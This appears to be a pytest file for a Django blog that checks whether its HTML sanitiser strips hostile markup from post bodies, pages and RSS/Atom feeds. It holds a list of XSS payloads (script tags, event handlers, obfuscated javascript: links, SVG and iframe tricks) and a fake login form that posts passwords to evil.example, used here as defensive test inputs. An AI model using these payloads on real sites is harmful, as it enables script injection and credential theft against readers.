"""Hostile HTML pasted into a body reaches no reader: not the post page, not the feeds."""

import re
from http import HTTPStatus

import feedparser
import pytest
from django.urls import reverse

from blog.html import clean_body
from tests.factories import PostFactory

pytestmark = pytest.mark.django_db

# What the rich-text editor makes, which must come through whole.
WELL_FORMED = (
    "<h2>Heading kept</h2><h3>Subheading kept</h3>"
    '<p>A <a href="https://example.com/page">link kept</a>, <strong>bold</strong> and '
    '<em>italic</em>, and <a href="mailto:desk@example.com">mail kept</a>.</p>'
    "<ul><li><p>Bullet kept</p></li></ul><ol><li><p>Number kept</p></li></ol>"
    "<blockquote><p>Quote kept</p></blockquote><hr>"
    "<table><tbody><tr><th>Head kept</th></tr><tr><td>Cell kept</td></tr></tbody></table>"
    '<figure><img src="https://example.com/picture.jpg" alt="Picture kept">'
    "<figcaption>Caption kept</figcaption></figure>"
)
KEPT = [
    "<h2>Heading kept</h2>",
    "<h3>Subheading kept</h3>",
    '<a href="https://example.com/page" rel="noopener noreferrer">link kept</a>',
    '<a href="mailto:desk@example.com" rel="noopener noreferrer">mail kept</a>',
    "<strong>bold</strong>",
    "<em>italic</em>",
    "<li><p>Bullet kept</p></li>",
    "<ol><li><p>Number kept</p></li></ol>",
    "<blockquote><p>Quote kept</p></blockquote>",
    "<hr>",
    "<th>Head kept</th>",
    "<td>Cell kept</td>",
    '<img src="https://example.com/picture.jpg" alt="Picture kept">',
    "<figcaption>Caption kept</figcaption>",
]

HOSTILE = {
    "script tag": "<script>alert('script')</script>",
    "script with a source": '<script src="https://evil.example/x.js"></script>',
    "unclosed script": "<p>before</p><script>alert('unclosed')",
    "mixed-case script": "<ScRiPt>alert('mixed')</sCrIpT>",
    "img onerror": '<img src="https://example.com/a.png" onerror="alert(\'onerror\')">',
    "mixed-case img onerror": "<IMG SRC=https://example.com/a.png OnErRoR=alert('mixed')>",
    "body onload": "<body onload=\"alert('onload')\"><p>text</p></body>",
    "paragraph onclick": "<p onclick=\"alert('onclick')\">click me</p>",
    "link onmouseover": '<a href="https://example.com/" onmouseover="alert(1)">hover</a>',
    "javascript link": "<a href=\"javascript:alert('href')\">link</a>",
    "mixed-case javascript link": "<a href=\"JaVaScRiPt:alert('href')\">link</a>",
    "javascript link with spaces": "<a href=\"  javascript:alert('href')\">link</a>",
    "entity-encoded javascript colon": "<a href=\"javascript&#58;alert('entity')\">link</a>",
    "entity-encoded javascript letters": '<a href="&#106;&#97;vascript:alert(1)">link</a>',
    "tab inside javascript": '<a href="jav&#x09;ascript:alert(1)">link</a>',
    "vbscript link": '<a href="vbscript:msgbox(1)">link</a>',
    "javascript image": "<img src=\"javascript:alert('src')\">",
    "data image": '<img src="data:image/png;base64,iVBORw0KGgo=" alt="pixel">',
    "data srcset": '<img src="https://example.com/a.png" srcset="data:image/png;base64,AAAA 2x">',
    "data link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "svg with script": "<svg><script>alert('svg')</script></svg>",
    "svg onload": '<svg onload="alert(\'svg\')"><circle r="1"/></svg>',
    "svg javascript link": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "style element": "<style>body { background: url('javascript:alert(1)') }</style>",
    "style expression": '<p style="width: expression(alert(1))">styled</p>',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "youtube's own embed code": '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>',
    "nested unclosed iframes": '<iframe src="https://evil.example/"><iframe src="javascript:x">',
    "iframe srcdoc": "<iframe srcdoc=\"<script>alert('srcdoc')</script>\"></iframe>",
    "object": '<object data="https://evil.example/x.swf"><param name="a" value="b"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "stylesheet link": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "form and inputs": (
        '<form action="https://evil.example/steal"><input type="password" name="pw">'
        "<button>Log in</button></form>"
    ),
    "comment hiding a script": "<!--<script>alert('comment')</script>-->",
    "conditional comment": "<!--[if IE]><script>alert('ie')</script><![endif]-->",
    "unclosed tags": '<p>open <b>bold <i>italic <img src="https://example.com/a.png" onerror=x',
    "word paste": (
        "<p class=MsoNormal style='mso-margin-top-alt:auto'><span "
        "style='font-size:11.0pt;mso-bidi-font-family:Calibri'>Word text<o:p></o:p></span></p>"
        "<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument>"
        "</xml><![endif]-->"
    ),
}
# None of this may appear anywhere in what readers get of the body.
FORBIDDEN = [
    "<script", "</script", "javascript", "vbscript", "data:", "onerror", "onload",
    "onclick", "onmouseover", "<svg", "xlink", "<style", "style=", "expression(", "<iframe",
    "srcdoc", "<object", "<embed", "<param", "<meta", "http-equiv", "<base", "<link",
    "<form", "<input", "<button", "<!--", "<![endif", "mso", "<o:p", "<xml", "<w:",
    "class=", "evil.example",
]  # fmt: skip


def prose(page_html):
    """Return the post body as the post page shows it."""
    match = re.search(r'<div class="prose">(.*?)</div>', page_html, re.S)
    assert match, "The post page has no body."
    return match[1]


def feed_bodies(client, post):
    """Return the post's body as the site's RSS and Atom feeds carry it, unsanitised by us."""
    bodies = {}
    for kind, name in {"rss": "blog:feed", "atom": "blog:feed-atom"}.items():
        feed = feedparser.parse(
            client.get(reverse(name)).content, sanitize_html=False, resolve_relative_uris=False
        )
        [entry] = [entry for entry in feed.entries if entry.title == post.title]
        bodies[kind] = entry.summary
    return bodies


@pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_html_in_a_body_reaches_no_reader(client, settings, hostile):
    settings.FEED_FULL_TEXT = True
    post = PostFactory(title="A pasted column", body=WELL_FORMED + hostile + WELL_FORMED)

    page = client.get(post.get_absolute_url())
    assert page.status_code == HTTPStatus.OK
    seen = {"stored": post.body, "page": prose(page.text), **feed_bodies(client, post)}

    for where, body in seen.items():
        for marker in FORBIDDEN:
            assert marker not in body.lower(), (where, marker, body)
        for kept in KEPT:
            assert kept in body, (where, kept, body)
    for where in ("page", "rss", "atom"):
        assert "evil.example" not in (page.text if where == "page" else seen[where])


@pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE.keys())
def test_sanitising_again_changes_nothing(hostile):
    once = clean_body(WELL_FORMED + hostile)

    assert clean_body(once) == once


def test_text_of_a_word_paste_survives_without_its_markup():
    post = PostFactory(body=HOSTILE["word paste"])

    assert post.body == "<p>Word text</p>"


def test_images_keep_site_paths_and_web_addresses_only():
    body = clean_body(
        '<img src="/media/posts/a.png" alt="a"><img src="https://example.com/b.png" alt="b">'
        '<img src="relative/c.png" alt="c"><img src="ftp://example.com/d.png" alt="d">'
        '<img src="/media/e.png" srcset="/media/e-2x.png 2x, https://example.com/e.png 3x">'
    )

    assert '<img src="/media/posts/a.png" alt="a">' in body
    assert '<img src="https://example.com/b.png" alt="b">' in body
    assert '<img alt="c">' in body
    assert '<img alt="d">' in body
    assert 'srcset="/media/e-2x.png 2x, https://example.com/e.png 3x"' in body


def test_feed_excerpts_carry_the_bodys_text_only(client, settings):
    settings.FEED_FULL_TEXT = False
    post = PostFactory(
        title="A pasted column", excerpt="", body=HOSTILE["img onerror"] + "<p>Hi</p>"
    )

    for body in feed_bodies(client, post).values():
        assert body == "Hi"
